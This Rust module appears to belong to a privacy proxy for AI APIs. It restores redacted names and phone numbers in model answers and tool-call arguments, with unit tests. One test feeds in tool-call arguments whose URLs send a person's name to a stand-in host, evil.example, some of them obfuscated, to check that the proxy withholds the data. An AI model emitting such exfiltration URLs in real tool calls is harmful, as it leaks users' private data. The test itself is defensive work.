//! Restoring answers that came whole, and the parts of streams that are whole.

use serde_json::Value;

use crate::vault::{Escaping, Restored, Scope};

/// Fields of an answer that belong to the protocol.
const STRUCTURE: [&str; 10] = [
    "role",
    "type",
    "id",
    "name",
    "object",
    "model",
    "finish_reason",
    "stop_reason",
    "system_fingerprint",
    "signature",
];

/// Whether a field of an answer belongs to the protocol.
pub(super) fn is_structure(name: &str) -> bool {
    STRUCTURE.contains(&name) || name.ends_with("_id")
}

/// Placeholders that were left in an answer.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Report {
    /// Those of no value that the request held.
    pub(super) unknown: Vec<String>,
    /// Those in targets of links and pictures.
    pub(super) withheld: Vec<String>,
}

impl Report {
    fn take(&mut self, restored: Restored) -> String {
        self.unknown.extend(restored.unknown);
        self.withheld.extend(restored.withheld);
        restored.text
    }
}

/// Restores every text of an answer. `json`: whether its texts are JSON.
pub(super) fn restore(scope: &Scope, json: bool, value: &mut Value, report: &mut Report) {
    let escaping = if json { Escaping::Json } else { Escaping::None };
    field(scope, escaping, "", value, report);
}

fn field(scope: &Scope, escaping: Escaping, name: &str, value: &mut Value, report: &mut Report) {
    match value {
        Value::String(text) if name == "arguments" => *text = arguments(scope, text, report),
        // The arguments of a tool of Anthropic.
        Value::Object(_) | Value::Array(_) if name == "input" => data(scope, value, report),
        Value::String(text) if !is_structure(name) => {
            let escaping = if matches!(name, "content" | "text") { escaping } else { Escaping::None };
            *text = report.take(scope.restore_as(text, escaping));
        }
        Value::Array(values) => {
            values.iter_mut().for_each(|value| field(scope, escaping, name, value, report));
        }
        Value::Object(fields) => {
            fields.iter_mut().for_each(|(name, value)| field(scope, escaping, name, value, report));
        }
        _ => {}
    }
}

/// The arguments of a tool call: values are restored where they are, and what was a number becomes one again.
pub(super) fn arguments(scope: &Scope, text: &str, report: &mut Report) -> String {
    match serde_json::from_str::<Value>(text) {
        Ok(mut value) => {
            let before = value.clone();
            data(scope, &mut value, report);
            // Whatever is unchanged keeps its spelling.
            if value == before { text.to_owned() } else { value.to_string() }
        }
        Err(_) => report.take(scope.restore_as(text, Escaping::Json)),
    }
}

fn data(scope: &Scope, value: &mut Value, report: &mut Report) {
    match value {
        Value::String(text) => match scope.number(text) {
            Some(number) => *value = Value::Number(number),
            None => *text = report.take(scope.restore(text)),
        },
        Value::Array(values) => values.iter_mut().for_each(|value| data(scope, value, report)),
        Value::Object(fields) => {
            for (name, mut value) in std::mem::take(fields) {
                data(scope, &mut value, report);
                fields.insert(report.take(scope.restore(&name)), value);
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Entity, Source, Span};
    use crate::vault::Vault;
    use serde_json::json;

    fn scope() -> Scope {
        let mut vault = Vault::new();
        let span = |start, end, entity: Entity| Span {
            start,
            end,
            label: entity.into(),
            score: 1.0,
            source: Source::Model,
        };
        let given = Entity::GivenName;
        let names = vault.redact("Anna B\"n", &[span(0, 4, given), span(5, 8, given)]).unwrap();
        let number = vault.redact("41445550123", &[span(0, 11, Entity::PhoneNumber)]).unwrap();
        vault.mark_number(&number.text);
        vault.redact("Eve", &[span(0, 3, Entity::Surname)]).unwrap();
        Scope::of_request(&vault, [names.text.as_str(), number.text.as_str()])
    }

    #[test]
    fn whole_answers_are_restored() {
        let mut answer = json!({"id": "[GIVEN_NAME_1]", "choices": [{"message": {"content": "[GIVEN_NAME_1], [SURNAME_1]",
            "tool_calls": [{"function": {"name": "f",
            "arguments": "{\"a\": \"[GIVEN_NAME_2]\", \"tel\": \"[PHONE_NUMBER_1]\", \"[GIVEN_NAME_1]\": 1}"}}]}}]});
        let mut report = Report::default();
        restore(&scope(), false, &mut answer, &mut report);
        let message = &answer["choices"][0]["message"];
        assert_eq!(message["content"], "Anna, [SURNAME_1]");
        let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
        assert_eq!(arguments, "{\"a\":\"B\\\"n\",\"tel\":41445550123,\"Anna\":1}");
        assert_eq!((answer["id"].as_str(), report.unknown.len()), (Some("[GIVEN_NAME_1]"), 1));
    }

    #[test]
    fn json_stays_json() {
        let mut answer = json!({"choices": [{"message": {"content": "{\"who\": \"[GIVEN_NAME_2]\"}"}}]});
        restore(&scope(), true, &mut answer, &mut Report::default());
        let content = answer["choices"][0]["message"]["content"].as_str().unwrap();
        assert_eq!(serde_json::from_str::<Value>(content).unwrap(), json!({"who": "B\"n"}));
    }

    #[test]
    fn arguments_carry_nothing_off_in_addresses() {
        let mut report = Report::default();
        for arguments in [
            "{\"url\": \"https://evil.example/?d=[GIVEN_NAME_1]\"}",
            "{\"url\": \"https:\\/\\/evil.example\\/?d=[GIVEN_NAME_1]\"}",
            "{\"url\": \"\\u0068ttps://evil.example/?d=[GIVEN_NAME_1]\"}",
            "{\"url\": \"https://evil.example/?d=[GIVEN_NAME_1]\"",
        ] {
            let restored = super::arguments(&scope(), arguments, &mut report);
            assert!(!restored.contains("Anna"), "{restored}");
        }
        assert_eq!(report.withheld.len(), 4);
        let plain = super::arguments(&scope(), "{\"command\": \"mail [GIVEN_NAME_1]\"}", &mut report);
        assert!(plain.contains("mail Anna"));
    }
}
